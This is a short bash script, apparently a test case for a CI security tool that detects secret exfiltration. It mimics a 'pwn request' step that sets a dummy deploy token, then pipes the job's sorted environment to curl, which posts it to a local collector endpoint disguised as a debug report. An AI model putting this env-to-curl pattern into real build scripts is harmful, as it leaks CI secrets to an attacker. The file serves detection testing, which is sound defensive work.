#!/bin/bash
# technique: T1552.001 Unsecured Credentials: Credentials In Files (CI secrets in the environment); T1041 Exfiltration Over C2 Channel
# reproduces: the exfiltration step of pull_request_target "pwn request" payloads and poisoned build scripts: the job's whole environment, where CI puts its secrets, posted to the attacker (`env | curl --data-binary @- URL`)
# expect: environment-sent-to-network ^curl$
# exec-borne: no
#
# The dump and the upload are separate programs joined by a pipe; the
# dump is sorted on the way, as a tidy-looking "debug" step would.
set -u

export CI_DEPLOY_TOKEN="ghp_buildwardenAttackTest0000000000000000"

report_build_env() {
	env | sort | curl -s -o /dev/null --connect-timeout 5 -X POST \
		--data-binary @- "http://127.0.0.1:${BW_ATTACK_PORT:?}/collect"
}

report_build_env
